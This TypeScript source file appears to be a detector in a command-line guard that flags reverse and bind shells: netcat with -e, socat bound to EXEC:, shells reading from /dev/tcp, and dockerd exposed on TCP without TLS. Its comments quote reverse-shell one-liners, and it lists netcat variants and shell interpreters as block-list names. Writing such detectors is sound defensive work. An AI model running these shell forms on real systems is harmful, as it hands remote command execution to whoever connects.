// A shell tied to a network socket. Its check judges `sh` and `bash`, which nearly every
// command line guard sees names (`sh -c '…'`), so it stays on the start-up path
// (start-up.ts) rather than in the packs' own bundle.
import type {SimpleCommand} from '../../shell/index.js';
import {written} from '../spelling.js';
import type {Hit} from '../types.js';

/** What reads from the network as a raw connection (`nc host 4444 | sh`). */
export const netcats = ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd'];
export const shells = ['sh', 'bash', 'dash', 'zsh', 'ksh', 'mksh', 'ash', 'python', 'python3', 'perl', 'ruby', 'php', 'node'];
// socat's addresses that are a network socket, and those that run a program.
const socketAddress = /^(?:TCP|TCP4|TCP6|UDP|UDP4|UDP6|SCTP|SCTP4|SCTP6|SSL|OPENSSL|DTLS|VSOCK)(?:-(?:LISTEN|CONNECT|L|RECVFROM|RECV|SENDTO|DATAGRAM))?[:,]/i;
const programAddress = /^(?:EXEC|SYSTEM):/i;

/**
 * A program whose input and output are a network socket: nc's `-e`/`-c` (`--exec`,
 * `--sh-exec`, `--lua-exec`), socat joining a TCP or UDP address to EXEC: or SYSTEM:, a shell or
 * interpreter reading from bash's `/dev/tcp/HOST/PORT` (`bash -i >& /dev/tcp/h/4444 0>&1`).
 * A port probe (`</dev/tcp/h/22` alone) runs no program on it.
 */
export function networkShell(command: SimpleCommand): Hit | null {
  const name = command.program.value ?? '';
  const words = command.argv.slice(1);
  if (netcats.includes(name)) {
    const exec = words.find((word, i) => word.known && (/^-[a-zA-Z]*[ec]$/.test(word.value) ? words[i + 1] !== undefined : /^-[a-zA-Z]*e.|^--(?:exec|sh-exec|lua-exec)(?:=|$)/.test(word.value)));
    return exec ? {word: written(exec), reason: `${name} ${exec.value} runs a program with its input and output on the network: whoever connects runs commands as this user`} : null;
  }

  // dockerd listening on TCP without TLS verification (`-H tcp://0.0.0.0:2375`): whoever reaches the port runs containers as root.
  if (name === 'dockerd') {
    const tls = words.some((word) => /^--tlsverify(?:=true)?$/.test(word.value ?? ''));
    const listen = words.find((word, i) => word.known && (/^(?:-H|--host)$/.test(words[i - 1]?.value ?? '') ? /^tcp:\/\//.test(word.value) : /^(?:-H|--host=)tcp:\/\//.test(word.value)) && !/^(?:(?:-H|--host=))?tcp:\/\/(?:127\.[\d.]+|localhost|\[::1\])(?::|\/|$)/.test(word.value));
    return listen && !tls ? {word: written(listen), reason: `dockerd ${listen.value!.replace(/^(?:-H|--host=)/, '-H ')} serves the Docker API on the network without TLS: whoever connects runs containers as root on this machine`} : null;
  }

  if (name === 'socat') {
    const program = words.find((word) => word.known && programAddress.test(word.value));
    const socket = words.find((word) => word.known && socketAddress.test(word.value));
    return program && socket ? {word: written(program), reason: `socat joins ${socket.value!.split(/[:,]/)[0]} to ${program.value!.split(',')[0]}: whoever connects runs commands as this user`} : null;
  }

  const socket = command.redirects.find((redirect) => redirect.target.known && /^\/dev\/(?:tcp|udp)\//.test(redirect.target.value));
  if (!socket) return null;
  const reads = command.redirects.some((redirect) => redirect.op === '<' || redirect.op === '<>' || ((redirect.op === '<&' || redirect.op === '>&') && (redirect.fd === 0 || (redirect.fd === undefined && redirect.op === '<&'))));
  const interactive = words.some((word) => word.known && /^-[a-zA-Z]*i[a-zA-Z]*$/.test(word.value));
  return reads || interactive ? {word: written(socket.target), reason: `${name} reads its commands from ${socket.target.value}: whoever is at the other end runs commands as this user`} : null;
}

